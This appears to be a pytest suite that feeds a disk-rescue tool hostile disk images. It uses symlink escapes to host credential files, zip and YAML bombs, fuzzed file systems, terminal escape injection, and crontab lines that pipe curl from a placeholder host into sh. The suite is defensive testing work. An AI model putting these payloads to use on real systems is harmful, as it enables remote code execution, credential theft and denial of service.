"""A disk that was made to harm whoever looks at it: nothing of the host is read, no hang, bounded memory."""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import pytest

from tests.cli import COMMAND, Redkeep
from tests.rescue import disks, victim

CANARY = "CANARY"
#: Of the reader, with everything at once: half of what it is allowed.
MOST_MEMORY = 1 << 30

#: A place that is read, and what lies on the host for a link there.
PLACES = {
    "etc/os-release": f'PRETTY_NAME="{CANARY}"\n',
    "etc/hostname": f"{CANARY}\n",
    "etc/passwd": f"{CANARY}:x:0:0::/root:/bin/bash\n",
    "etc/shadow": f"{CANARY}:$6$x:1::::::\n",
    "etc/fstab": f"UUID={CANARY} / ext4\n",
    "etc/crontab": f"* * * * * root curl http://{CANARY}/x | sh\n",
    "etc/ld.so.preload": f"/{CANARY}.so\n",
    "etc/my.cnf": f"[mysqld]\nx={CANARY}\n",
    "etc/redis.conf": f"port 1\ndir /{CANARY}\n",
    "etc/nginx/nginx.conf": f"http {{ server {{ server_name {CANARY}; }} }}\n",
    "etc/letsencrypt/live/x/fullchain.pem": CANARY,
    "etc/systemd/system/a.service": f"[Service]\nExecStart=/{CANARY}\n",
    "root/.ssh/authorized_keys": f"ssh-rsa {'A' * 60} {CANARY}\n",
    "srv/app/.env": f"DB_HOST={CANARY}\n",
    "srv/app/application.yml": f"server: {{port: {CANARY}}}\n",
    "srv/app/package.json": json.dumps({"name": CANARY}),
    "var/lib/redis/dump.rdb": CANARY,
    "var/lib/dpkg/status": f"Package: {CANARY}\nStatus: install ok installed\nVersion: 1\n",
    "var/lib/mysql/mysql_upgrade_info": CANARY,
    "var/lib/rpm/Packages": CANARY,
}


@pytest.mark.parametrize("way", ["absolute", "relative"])
def test_links_to_the_host_at_every_place_that_is_read(tmp_path: Path, way: str) -> None:
    root = victim.clean(tmp_path / "root")
    for place, content in PLACES.items():
        outside = victim.put(tmp_path / "host", place, content)
        link = root / place
        link.parent.mkdir(parents=True, exist_ok=True)
        link.unlink(missing_ok=True)
        link.symlink_to(outside if way == "absolute" else os.path.relpath(outside, link.parent))
    (root / "etc/cron.d").rename(root / "etc/cron.old")
    (root / "etc/cron.d").symlink_to(victim.put(tmp_path / "host", "cron/x", PLACES["etc/crontab"]).parent)
    victim.put(
        root,
        "etc/nginx/conf.d/host.conf",
        f"include {tmp_path}/host/*/*.conf;\ninclude ../../../host/cron/*;\n",
    )
    run = Redkeep(tmp_path / "run", environment={"HOME": str(tmp_path)})
    run.folder.mkdir()
    for source in (root, disks.ext4(root, tmp_path / "disk")):
        told = run("rescue", "inspect", str(source), "--json")
        assert told.status in (0, 3), told.everything
        assert CANARY not in told.stdout
        run("rescue", "extract", str(source), f"bundle-{source.name}", "--json")
        assert CANARY.encode() not in disks_content(run.folder / f"bundle-{source.name}/files")


def disks_content(top: Path) -> bytes:
    return b"".join(p.read_bytes() for p in top.rglob("*") if p.is_file() and not p.is_symlink())


def zip_bomb() -> bytes:
    """A jar whose settings unpack to 200 MiB, and one that holds ten such jars."""
    inner = io.BytesIO()
    with (
        zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("application.yml", "w") as file,
    ):
        for _ in range(200):
            file.write(bytes(1 << 20))
    outer = io.BytesIO()
    with zipfile.ZipFile(outer, "w") as archive:
        for i in range(10):
            archive.writestr(f"BOOT-INF/lib/own{i}.jar", inner.getvalue())
        archive.writestr("META-INF/MANIFEST.MF", "Start-Class: bomb\n")
    return outer.getvalue()


def yaml_bombs() -> dict[str, str]:
    laughs = "a0: &a0 [x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 12)
    )
    return {
        "application.yml": laughs,
        "application-deep.yml": "a: " + "[" * 200_000,
        "application-long.yml": "a:\n" + "  - b\n" * 150_000,
        "bootstrap.yml": "&a [*a]\n",
    }


def test_bombs(tmp_path: Path) -> None:
    root = victim.clean(tmp_path / "root")
    victim.put(root, "/srv/bomb.jar", zip_bomb())
    for name, text in yaml_bombs().items():
        victim.put(root, f"/srv/yaml/{name}", text)
    victim.put(root, "/srv/json/package.json", "[" * 500_000)
    victim.put(root, "/etc/nginx/conf.d/deep.conf", "a {" * 50_000)
    victim.put(root, "/etc/nginx/conf.d/circle.conf", "include /etc/nginx/conf.d/*.conf;\n")
    victim.put(root, "/var/lib/redis/appendonly.aof", b"*1000000\r\n$99999999999999\r\n")
    victim.put(root, "/var/lib/redis/dump.rdb", b"REDIS0009\x01\x01a\x81" + b"\xff" * 8 + b"\0")
    victim.put(
        root,
        "/var/lib/rpm/Packages",
        bytes(12) + b"\x61\x15\x06\x00" + bytes(4) + b"\0\x10\0\0" + bytes(9000),
    )
    with (root / "etc/hosts").open("wb") as file:
        file.truncate(1 << 40)
    with (root / "var/lib/redis/big.rdb").open("wb") as file:
        file.truncate(1 << 40)
    with (root / "srv/huge.jar").open("wb") as file:
        file.truncate(1 << 40)
    document, peak = measured("rescue", "inspect", str(root), "--json")
    assert document["system"]["name"].startswith("CentOS")
    assert "bomb.jar" in " ".join(document["not_looked_at"])
    assert peak < MOST_MEMORY


def measured(*arguments: str) -> tuple[Any, int]:
    """The document, and the most memory that a process of the command had, in bytes."""
    code = (
        "import resource, subprocess, sys\n"
        "done = subprocess.run(sys.argv[1:], stdout=subprocess.PIPE)\n"
        "sys.stdout.buffer.write(done.stdout)\n"
        "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, file=sys.stderr)\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", code, *COMMAND, *arguments], capture_output=True, text=True, timeout=240
    )
    return json.loads(done.stdout), int(done.stderr.split()[-1]) * 1024


def test_noise_in_every_file_that_is_read(tmp_path: Path) -> None:
    """Whatever the bytes are, there is a report."""
    root = victim.infected(victim.clean(tmp_path / "root"))
    for i, path in enumerate(sorted(p for p in root.rglob("*") if p.is_file() and not p.is_symlink())):
        content = bytearray(path.read_bytes())
        for at in range(i % 7, len(content), 11):
            content[at] = (content[at] * 31 + i) % 256
        path.write_bytes(content)
    told = Redkeep(tmp_path)("rescue", "inspect", str(root), "--json")
    assert told.status in (0, 3), told.everything
    assert "system" in told.json


@pytest.mark.parametrize("kind", ["ext4", "xfs"])
def test_a_smashed_file_system_ends_in_a_report_or_an_error(tmp_path: Path, kind: str) -> None:
    root = victim.clean(tmp_path / "root")
    image = disks.ext4(root, tmp_path / "disk") if kind == "ext4" else disks.xfs(root, tmp_path / "disk")
    whole = image.read_bytes()
    run = Redkeep(tmp_path)
    for seed in range(4):
        content = bytearray(whole)
        for i in range(2000):
            at = (i * 7919 * (seed + 1) * 512 + seed * 131) % (len(content) if seed % 2 else 4 << 20)
            content[at] ^= 0xFF
        image.write_bytes(content)
        told = run("rescue", "inspect", str(image), "--json")
        assert told.status in (0, 1, 2, 3, 4), told.everything
        assert "fault of Redkeep;" not in told.stdout


def test_text_of_the_victim_cannot_move_the_cursor(tmp_path: Path) -> None:
    root = victim.clean(tmp_path / "root")
    victim.put(root, "/etc/hostname", "\x1b[2J\x1b]0;owned\x07")
    victim.put(root, "/etc/cron.d/\x1b[2Jevil", "* * * * * root curl http://192.0.2.1/a | sh \x1b[31m\n")
    told = Redkeep(tmp_path)("rescue", "inspect", str(root), "--html", "page.html")
    assert told.status == 3
    assert "\x1b" not in told.stdout + told.stderr
    assert "\x1b" not in (tmp_path / "page.html").read_text()
